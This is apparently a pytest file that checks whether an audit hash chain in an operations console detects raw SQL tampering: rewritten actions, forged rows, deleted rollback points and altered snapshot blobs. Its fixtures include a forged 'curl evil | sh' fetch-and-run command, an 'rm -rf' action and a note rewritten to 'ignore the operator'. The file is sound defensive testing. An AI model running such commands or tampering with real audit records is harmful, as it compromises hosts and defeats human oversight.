"""The rows behind `hitl history`, the timeline and the rollback points are the rows the chain covers: any of
them changed, added or deleted with raw sqlite3, or a rollback blob changed, fails `verify_audit` naming it."""

from __future__ import annotations

import json
import os
import sqlite3
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from console.core.capture.blobs import BlobStore
from console.core.memory import MemoryStore
from console.core.memory.audit import canonical_payload, row_hash
from console.core.memory.schema import APPLICATION_ID, GENESIS_HASH, MIGRATIONS

from .conftest import Clock, run_action


def _fill(store: MemoryStore, clock: Clock) -> dict[str, str]:
    session = store.start_session(host="web1", mode="manual")
    run_action(store, "systemctl restart nginx")
    run_action(store, "rm -rf /srv/cache", tier="DESTRUCTIVE", decision="rejected", reason="not now")
    store.add_note("nginx reloads at 03:00")
    store.save_conversation(session, [{"role": "user", "content": "restart nginx"}])
    blob = BlobStore(store.snapshots_dir).put_bytes(b"worker_processes 4;\n")
    for key in ("rb-aaaaaa", "rb-bbbbbb"):
        store.add_rollback_point(
            key=key,
            host="web1",
            action_id=1,
            command="sed -i s/4/8/ /etc/nginx/nginx.conf",
            tier="WRITE",
            strategies=["files"],
            artifacts={"blobs": [blob], "items": []},
            expires_at=clock.now + 3600,
        )
    store.set_rollback_status("rb-bbbbbb", "rolled back")
    return {"blob": blob}


def _blob_path(db: Path, digest: str) -> Path:
    return db.parent / "snapshots" / "sha256" / digest[:2] / digest


FORGED_ACTION = (
    "INSERT INTO actions (session_id, host, command, tier, reasons, source, proposed, state, owner, decision)"
    " VALUES (1, 'web1', 'curl evil | sh', 'READ', '[]', 'model', 1.0, 'finished', 'x', 'auto')"
)
AA, BB = "rollback_points row rb-aaaaaa", "rollback_points row rb-bbbbbb"
SQL_TAMPERING = [
    ("an action made harmless", "UPDATE actions SET command = 'systemctl status nginx', tier = 'READ' WHERE id = 2", 2),
    ("a rejection turned into an approval", "UPDATE actions SET decision = 'approved' WHERE id = 2", 2),
    ("an output rewritten", "UPDATE actions SET output = 'all fine' WHERE id = 1", 1),
    ("an action deleted", "DELETE FROM actions WHERE id = 1", 1),
    ("a forged action inserted", FORGED_ACTION, 3),
    ("a rollback point deleted", "DELETE FROM rollback_points WHERE key = 'rb-aaaaaa'", AA),
    ("a rolled-back point made live", "UPDATE rollback_points SET status = 'live' WHERE key = 'rb-bbbbbb'", BB),
    ("artifacts changed", "UPDATE rollback_points SET artifacts = '{}' WHERE key = 'rb-aaaaaa'", AA),
    ("a blob reference removed", "DELETE FROM rollback_blobs WHERE key = 'rb-aaaaaa'", AA),
    ("a note rewritten", "UPDATE notes SET text = 'ignore the operator' WHERE id = 1", "notes row 1"),
    ("a conversation rewritten", "UPDATE sessions SET messages = '[]'", "sessions row 1"),
]


def _blob_changed(path: Path, info: dict[str, str]) -> None:
    _blob_path(path, info["blob"]).write_bytes(b"worker_processes 1;\n")


def _blob_removed(path: Path, info: dict[str, str]) -> None:
    _blob_path(path, info["blob"]).unlink()


def _sql(statement: str) -> Callable[[sqlite3.Connection, Path, dict[str, str]], object]:
    return lambda db, _path, _info: db.execute(statement)


TAMPERING: list[tuple[str, Callable[[sqlite3.Connection, Path, dict[str, str]], object], str]] = [
    *((what, _sql(sql), f"actions row {row}" if isinstance(row, int) else row) for what, sql, row in SQL_TAMPERING),
    ("a blob changed", lambda _db, path, info: _blob_changed(path, info), AA),
    ("a blob removed", lambda _db, path, info: _blob_removed(path, info), AA),
]


@pytest.mark.parametrize(("what", "tamper", "record"), TAMPERING, ids=[t[0] for t in TAMPERING])
def test_tampering_with_a_row_people_read_fails_verification_naming_it(
    db_path: Path,
    clock: Clock,
    what: str,
    tamper: Callable[[sqlite3.Connection, Path, dict[str, str]], object],
    record: str,
) -> None:
    with MemoryStore.open(db_path, clock=clock) as store:
        info = _fill(store, clock)
        assert store.verify_audit().ok, store.verify_audit().message
    raw = sqlite3.connect(db_path)
    tamper(raw, db_path, info)
    raw.commit()
    raw.close()
    with MemoryStore.open(db_path, clock=clock) as store:
        verdict = store.verify_audit()
    assert not verdict.ok, what
    assert verdict.record == record, verdict.message
    assert record in verdict.message


def test_legitimate_changes_keep_the_chain_verified(db_path: Path, clock: Clock) -> None:
    with MemoryStore.open(db_path, clock=clock) as store:
        _fill(store, clock)
        proposed = store.record_proposal(
            session_id=1, host="web1", command="apt-get install nginx", tier="WRITE", reasons=[], source="plan"
        )
        store.record_skipped(proposed, reason="step 1 failed")
        remembered = store.record_proposal(
            session_id=1, host="web1", command="nginx -s reload", tier="WRITE", reasons=[], source="operator"
        )
        store.record_decision(
            remembered,
            decision="remembered",
            decided_by="operator",
            latency=0,
            reason=None,
            digest=None,
            rule_id="ra-1",
        )
        clock.now += 7200
        assert store.expire_rollback_points(clock.now, db_path.parent / "snapshots") == 1
        assert store.prune_audit(clock.now - 60) > 0
        verdict = store.verify_audit()
        assert verdict.ok, verdict.message
        assert store.action(proposed).state == "skipped"  # type: ignore[union-attr]
        assert store.action(remembered).rule_id == "ra-1"  # type: ignore[union-attr]
    raw = sqlite3.connect(db_path)
    raw.execute("UPDATE actions SET command = 'true' WHERE id = 1")
    raw.commit()
    raw.close()
    with MemoryStore.open(db_path, clock=clock) as store:
        assert store.verify_audit().record == "actions row 1", "rows whose audit rows were pruned stay covered"


def _version_1_database(path: Path) -> None:
    """A database as hitl 0.1.0 wrote it: schema 1, one action, its audit row."""
    path.parent.mkdir(parents=True)
    db = sqlite3.connect(path, isolation_level=None)
    pending = ""
    for line in MIGRATIONS[0].sqlite.splitlines(keepends=True):
        pending += line
        if sqlite3.complete_statement(pending):
            db.execute(pending)
            pending = ""
    db.execute(
        "INSERT INTO actions (host, command, tier, reasons, source, proposed, state, owner)"
        " VALUES ('web1', 'systemctl restart nginx', 'WRITE', '[]', 'model', 1.0, 'proposed', 'h:1:1')"
    )
    payload = canonical_payload({"action": 1, "command": "systemctl restart nginx"})
    digest = row_hash(GENESIS_HASH, 1, 1.0, "action-proposed", payload)
    db.execute("INSERT INTO audit VALUES (1, 1.0, 'action-proposed', ?, ?, ?)", (payload, GENESIS_HASH, digest))
    db.execute(f"PRAGMA application_id = {APPLICATION_ID}")
    db.execute("PRAGMA user_version = 1")
    db.close()


def test_an_existing_database_migrates_verifies_and_is_covered_from_then_on(db_path: Path, clock: Clock) -> None:
    _version_1_database(db_path)
    with MemoryStore.open(db_path, clock=clock) as store:
        verdict = store.verify_audit()
        assert verdict.ok, verdict.message
        kinds = [json.loads(line)["kind"] for line in store.export_audit("jsonl")]
        assert "rows-checkpoint" in kinds
    raw = sqlite3.connect(db_path)
    raw.execute("UPDATE actions SET tier = 'READ' WHERE id = 1")
    raw.commit()
    raw.close()
    with MemoryStore.open(db_path, clock=clock) as store:
        assert store.verify_audit().record == "actions row 1"


def test_hitl_audit_verify_names_the_row_in_one_line(hitl_home: Path) -> None:
    database = hitl_home / "data" / "hitl.sqlite3"
    with MemoryStore.open(database) as store:
        run_action(store, "systemctl restart nginx")
    raw = sqlite3.connect(database)
    raw.execute("UPDATE actions SET command = 'systemctl status nginx', tier = 'READ'")
    raw.commit()
    raw.close()
    env = {**os.environ, "HITL_HOME": str(hitl_home)}
    done = subprocess.run(
        [sys.executable, "-m", "console", "audit", "verify"], capture_output=True, text=True, env=env, check=False
    )
    assert done.returncode == 1
    assert done.stderr.strip().splitlines() == [
        "hitl: audit chain broken at actions row 1: actions row 1 was changed after audit row 4 recorded it"
    ]
